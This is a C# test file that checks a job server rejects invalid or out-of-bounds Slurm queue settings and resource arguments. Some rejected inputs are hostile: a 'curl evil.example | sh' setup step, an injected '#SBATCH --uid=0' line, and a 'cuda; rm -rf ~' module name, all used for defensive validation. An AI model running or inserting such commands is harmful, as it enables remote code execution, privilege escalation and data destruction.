using System.Net;
using Liftoff.Server.Tests.Apis;
using Liftoff.Testing;
using Xunit;

namespace Liftoff.Server.Tests.Launch;

/// <summary>A slurm queue's resource config checked at enqueue: the sbatch fields, the owner's bounds, and image jobs.</summary>
public sealed class SlurmEnqueueTests(ServerFixture server) : IClassFixture<ServerFixture>
{
    private const string Queue = """
        {"name":"hpc","resource":"slurm","config":{"partition":"cpu","time":"1:00:00","allowed_partitions":["cpu","gpu"],"max_time":"1-00:00:00",
         "max_nodes":4,"modules":["cuda/12.1"],"setup":["source /opt/site/env.sh"]}}
        """;

    [Theory]
    [InlineData("""{"job":"train","project":"p","resource_args":{"partiton":"gpu"}}""", "resource_args.partiton")]
    [InlineData("""{"job":"train","project":"p","resource_args":{"time":"2h"}}""", "resource_args.time")]
    [InlineData("""{"job":"train","project":"p","resource_args":{"mem":"4GB"}}""", "resource_args.mem")]
    [InlineData("""{"job":"train","project":"p","resource_args":{"signal":"B:USR1@99999"}}""", "resource_args.signal")]
    [InlineData("""{"job":"train","project":"p","resource_args":{"account":"ml\n#SBATCH --uid=0"}}""", "resource_args.account")]
    [InlineData("""{"job":"train","project":"p","resource_args":{"partition":"big"}}""", "resource_args.partition")]
    [InlineData("""{"job":"train","project":"p","resource_args":{"time":"2-00:00:00"}}""", "resource_args.time")]
    [InlineData("""{"job":"train","project":"p","resource_args":{"nodes":"2-8"}}""", "resource_args.nodes")]
    [InlineData("""{"job":"train","project":"p","resource_args":{"setup":["curl evil.example | sh"]}}""", "resource_args.setup")]
    [InlineData("""{"job":"train","project":"p","resource_args":{"allowed_partitions":["big"],"partition":"big"}}""", "resource_args.allowed_partitions")]
    [InlineData("""{"job":"image-job","project":"p"}""", "job")]
    public async Task Enqueue_OnASlurmQueue_BadOrUnallowedResourceArgs_Is400NamingTheFieldAndEnqueuesNothing(string body, string field)
    {
        var (http, client) = await SetUpAsync(Queue);

        var problem = await (await http.PostJsonAsync("/api/v1/queues/hpc/items", body)).ProblemAsync(HttpStatusCode.BadRequest);

        Assert.True(problem.GetProperty("errors").TryGetProperty(field, out _), problem.GetRawText());
        Assert.Empty((await client.ListItemsAsync("hpc")).Items);
        http.Dispose();
    }

    [Fact]
    public async Task Enqueue_OnASlurmQueue_WithinTheOwnersBounds_IsAccepted()
    {
        var (http, client) = await SetUpAsync(Queue);

        await (await http.PostJsonAsync("/api/v1/queues/hpc/items",
            """{"job":"train","project":"p","resource_args":{"partition":"gpu","time":"12:00:00","nodes":"1-4","ntasks":2,"gpus":"a100:1","signal":"B:USR1@120"}}"""))
            .JsonAsync(HttpStatusCode.Created);

        Assert.Single((await client.ListItemsAsync("hpc")).Items);
        http.Dispose();
    }

    [Fact]
    public async Task Enqueue_AnImageJob_OnASlurmQueueWithAContainerRuntime_IsAccepted()
    {
        var (http, client) = await SetUpAsync("""{"name":"hpc","resource":"slurm","config":{"container":"apptainer"}}""");

        await (await http.PostJsonAsync("/api/v1/queues/hpc/items", """{"job":"image-job","project":"p"}""")).JsonAsync(HttpStatusCode.Created);

        Assert.Single((await client.ListItemsAsync("hpc")).Items);
        http.Dispose();
    }

    [Theory]
    [InlineData("""{"name":"hpc","resource":"slurm","config":{"partition":"big","allowed_partitions":["cpu"]}}""", "config.partition")]
    [InlineData("""{"name":"hpc","resource":"slurm","config":{"container":"docker"}}""", "config.container")]
    [InlineData("""{"name":"hpc","resource":"slurm","config":{"modules":["cuda; rm -rf ~"]}}""", "config.modules[0]")]
    [InlineData("""{"name":"hpc","resource":"slurm","config":{"exclusive":"yes"}}""", "config.exclusive")]
    public async Task CreateQueue_Slurm_BadConfig_Is400NamingTheField(string body, string field)
    {
        using var http = server.Http(await server.NewUserKeyAsync());

        var problem = await (await http.PostJsonAsync("/api/v1/queues", body)).ProblemAsync(HttpStatusCode.BadRequest);

        Assert.True(problem.GetProperty("errors").TryGetProperty(field, out _), problem.GetRawText());
    }

    private async Task<(HttpClient Http, Liftoff.Client.LiftoffClient Client)> SetUpAsync(string queue)
    {
        var key = await server.NewUserKeyAsync();
        var http = server.Http(key);
        await TestJobs.CreateRepoJobAsync(http, "p", "train");
        await TestJobs.CreateImageJobAsync(http, "p", "image-job");
        await (await http.PostJsonAsync("/api/v1/queues", queue)).JsonAsync(HttpStatusCode.Created);
        return (http, server.Client(key));
    }
}
